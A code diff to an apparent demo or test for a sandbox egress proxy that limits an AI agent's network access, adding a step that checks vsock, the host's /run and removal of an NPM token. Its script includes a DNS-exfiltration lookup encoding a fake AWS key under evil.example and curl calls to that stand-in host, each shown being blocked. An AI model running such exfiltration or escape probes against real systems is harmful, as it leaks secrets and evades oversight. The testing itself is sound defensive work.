@@ -107,24 +107,28 @@ path_prefix = "/openai/"
         r#"
 exec 2>&1
 step() {{ printf '\n--- %s\n' "$*"; }}
-step "0/8 call the LLM API with a placeholder key: egressd terminates TLS for this host only, mints GitHub OIDC -> Entra, injects the token"
+step "0/9 call the LLM API with a placeholder key: egressd terminates TLS for this host only, mints GitHub OIDC -> Entra, injects the token"
 curl -sS --max-time 20 -H 'api-key: placeholder' https://{LLM}/openai/deployments/gpt/chat/completions; echo " [curl exit $?]"
-step "1/8 curl the allowed API by name: the sandbox's DNS answers it, TLS passes through untouched, curl checks the upstream's own certificate"
+step "1/9 curl the allowed API by name: the sandbox's DNS answers it, TLS passes through untouched, curl checks the upstream's own certificate"
 curl -sS --max-time 10 --cacert {ca} https://api.allowed.example/; echo " [curl exit $?]"
-step "2/8 look up a name that carries data (DNS exfiltration): answered NXDOMAIN inside the sandbox, nothing leaves"
+step "2/9 look up a name that carries data (DNS exfiltration): answered NXDOMAIN inside the sandbox, nothing leaves"
 getent hosts "$(echo 'AKIA-secret' | base64 | tr -d '=\n').evil.example"; echo " [getent exit $?: not found]"
-step "3/8 curl a forbidden host the agent knows the address of: the proxy reads the name from the ClientHello and closes the connection"
+step "3/9 curl a forbidden host the agent knows the address of: the proxy reads the name from the ClientHello and closes the connection"
 curl -sS --max-time 10 --cacert {ca} --resolve evil.example:443:192.0.2.66 https://evil.example/; echo " [curl exit $?]"
-step "4/8 curl the forbidden name with the ALLOWED host's address: the decision follows the name, not the address"
+step "4/9 curl the forbidden name with the ALLOWED host's address: the decision follows the name, not the address"
 curl -sS --max-time 10 --cacert {ca} --resolve evil.example:443:192.0.2.10 https://evil.example/; echo " [curl exit $?]"
-step "5/8 curl an IP literal: there is no name to allow, so it is denied"
+step "5/9 curl an IP literal: there is no name to allow, so it is denied"
 curl -sS --max-time 10 -k https://192.0.2.10/; echo " [curl exit $?]"
-step "6/8 send a UDP datagram to 192.0.2.53:9999 (think QUIC): the kernel refuses it (EPERM)"
+step "6/9 send a UDP datagram to 192.0.2.53:9999 (think QUIC): the kernel refuses it (EPERM)"
 {probe} udp 192.0.2.53:9999
-step "7/8 ping 192.0.2.1: ICMP never leaves the sandbox"
+step "7/9 ping 192.0.2.1: ICMP never leaves the sandbox"
 ping -c 1 -W 2 192.0.2.1 2>&1 | tail -n 2; echo " [ping done]"
-step "8/8 plain HTTP to the forbidden host: the proxy answers 403 with the reason"
+step "8/9 plain HTTP to the forbidden host: the proxy answers 403 with the reason"
 curl -sS --max-time 10 --resolve evil.example:80:192.0.2.66 -w ' [HTTP %{{http_code}}]' http://evil.example/; echo " [curl exit $?]"
+step "9/9 side doors: a vsock socket to the hypervisor (seccomp refuses the family), the host's /run (a private one holding only egressd's CA bundle: no Docker socket), a token in the environment (removed)"
+{probe} socket vsock
+ls -A /run | grep -v '^user$' | head -3; echo " [/run listed]"
+env | grep -c '^NPM_TOKEN=' ; echo " [NPM_TOKEN variables seen]"
 "#
     );
 
@@ -135,6 +139,7 @@ curl -sS --max-time 10 --resolve evil.example:80:192.0.2.66 -w ' [HTTP %{{http_c
         .arg("--config")
         .arg(&config)
         .env("ACTIONS_ID_TOKEN_REQUEST_URL", oidc.request_url())
+        .env("NPM_TOKEN", "npm_demo0123456789abcdefghij")
         .env("ACTIONS_ID_TOKEN_REQUEST_TOKEN", oidc.request_token())
         .resolve(LLM, net.addr3())
         .resolve("api.allowed.example", net.addr())
